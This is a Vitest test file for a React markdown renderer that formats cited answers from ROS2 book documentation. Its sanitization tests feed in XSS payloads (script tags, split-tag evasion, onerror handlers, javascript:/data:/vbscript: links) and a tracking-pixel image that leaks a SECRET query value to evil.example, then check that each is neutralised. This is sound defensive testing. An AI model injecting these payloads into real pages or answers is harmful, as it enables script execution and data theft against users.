import {describe, expect, it} from 'vitest';
import {renderToStaticMarkup} from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import rehypeSanitize from 'rehype-sanitize';
import {SANITIZE_SCHEMA, rehypeCitations, rehypeLinkPolicy, remarkBookGfm, splitCitations} from '../../src/client/markdown';
import type {SiteContext, Source} from '../../src/client/urls';

const site: SiteContext = {baseUrl: '/', origins: ['http://localhost:3000']};
const sources: Source[] = [
  {n: 1, title: 'Teleoperation', url: 'http://localhost:3000/docs/teleoperation#latency', file_path: '99-teleoperation.md'},
  {n: 2, title: 'Nodes', url: 'http://localhost:3000/docs/ros2/nodes-and-topics#qos', file_path: '01-ros2/01-nodes-and-topics.md'},
];

/** The answer pipeline exactly as the panel configures react-markdown (without its components). */
function render(markdown: string): string {
  return renderToStaticMarkup(
    <ReactMarkdown
      remarkPlugins={[remarkBookGfm]}
      rehypePlugins={[[rehypeSanitize, SANITIZE_SCHEMA], rehypeCitations, [rehypeLinkPolicy, {site, sources}]]}>
      {markdown}
    </ReactMarkdown>,
  );
}

describe('citations', () => {
  it('split from text, several in a row', () => {
    expect(splitCitations('QoS [1][2] and [10].')).toEqual(['QoS ', 1, 2, ' and ', 10, '.']);
  });
  it('become marked superscripts, but not inside code', () => {
    const html = render('Reliable retransmits [1][2].\n\n`arr[1]`\n\n```py\nx = a[2]\n```');
    expect(html).toContain('<sup class="bookrag-cite" data-cite="1">[1]</sup><sup class="bookrag-cite" data-cite="2">[2]</sup>');
    expect(html).toContain('<code>arr[1]</code>');
    expect(html).toContain('x = a[2]');
    expect(html.match(/data-cite/g)).toHaveLength(2);
  });
});

describe('a poisoned answer renders nothing live', () => {
  const poisoned = [
    'Teleoperation <script>window.__pwned=1</script> latency [1]',
    '<scr<script>ipt>window.__pwned=2</scr</script>ipt>',
    '<img src=x onerror="window.__pwned=3">',
    '![tracking pixel](https://evil.example/pixel.gif?q=SECRET) ![ok](/img/robot.png)',
    '[manual](javascript:alert(1)) [appendix](data:text/html,<script>alert(2)</script>) [vb](vbscript:msgbox(1))',
    '[obfuscated](java&#x09;script:alert(1)) [spaced]( javascript:alert(1))',
    'Bare https://evil.example/track stays text.',
    '<a href="javascript:alert(4)">raw link</a> <iframe src="https://evil.example"></iframe>',
    '[ref]: javascript:alert(5)',
  ].join('\n\n');
  const html = render(poisoned);

  it('has no tags from the text, no handlers, no script URLs', () => {
    expect(html).not.toMatch(/<script|<iframe|<img[^>]*onerror|onerror=|onclick=/i);
    expect(html).not.toMatch(/href="\s*(javascript|data|vbscript):/i);
    expect(html).not.toMatch(/src="[^"]*evil\.example/);
    expect(html).not.toMatch(/href="[^"]*evil\.example/);
  });
  it('keeps the words around removed markup as plain text', () => {
    expect(html).toContain('Teleoperation window.__pwned=1 latency');
    expect(html).toContain('Bare https://evil.example/track stays text.');
  });
  it('shows escaped HTML (as the server sends it) as visible text', () => {
    expect(render('&lt;img src=x onerror=alert(1)&gt; [1]')).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
  it('keeps the alt text of a refused image and loads site images', () => {
    expect(html).toContain('tracking pixel');
    expect(html).toMatch(/<img src="\/img\/robot.png"/);
  });
});

describe('links of quoted book text', () => {
  it('relative links resolve against the page of the citation that follows them', () => {
    const html = render('See [the QoS table](./qos.md#profiles) [2].\n\nOr [the intro](../intro.md) [1].');
    expect(html).toContain('href="/docs/ros2/qos#profiles" data-internal="true"');
    expect(html).toContain('href="/intro" data-internal="true"');
  });
  it('off-site links open in a new tab without opener or referrer', () => {
    const html = render('[ROS docs](https://docs.ros.org/en/jazzy/) [2]');
    expect(html).toContain('href="https://docs.ros.org/en/jazzy/" target="_blank" rel="noopener noreferrer"');
  });
  it('absolute links to the site stay in the site', () => {
    expect(render('[nodes](http://localhost:3000/docs/ros2/nodes-and-topics#qos)')).toContain('href="/docs/ros2/nodes-and-topics#qos" data-internal="true"');
  });
});
